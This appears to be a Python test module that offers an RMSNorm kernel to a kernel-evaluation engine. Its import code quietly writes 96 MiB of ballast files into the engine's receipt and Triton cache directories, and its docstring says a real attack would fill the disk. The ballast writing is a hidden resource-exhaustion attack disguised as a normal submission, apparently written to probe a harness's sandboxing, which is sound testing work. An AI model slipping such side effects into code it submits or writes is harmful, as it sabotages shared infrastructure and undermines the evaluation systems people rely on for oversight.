"""Fills the host-visible dirs an engine writes (receipts dir, JIT caches) with 4 x 24 MiB at import;
a real attack would write until the disk is full (64 GiB files are allowed per file)."""

import os
import torch


def _ref(x, weight, out, eps):
    xf = x.float()
    out.copy_((xf * torch.rsqrt(xf.pow(2).mean(-1, keepdim=True) + eps) * weight.float()).to(out.dtype))


_block = b"\xa5" * (1 << 20)
for _key in ("CACHEON_RECEIPT_DIR", "TRITON_CACHE_DIR"):
    _dir = os.environ.get(_key)
    if not _dir:
        continue
    for _n in range(2):
        with open(os.path.join(_dir, f"ballast-{os.getpid()}-{_n}.bin"), "wb") as _f:
            for _ in range(24):
                _f.write(_block)


def rmsnorm(x, weight, out, eps):
    _ref(x, weight, out, eps)
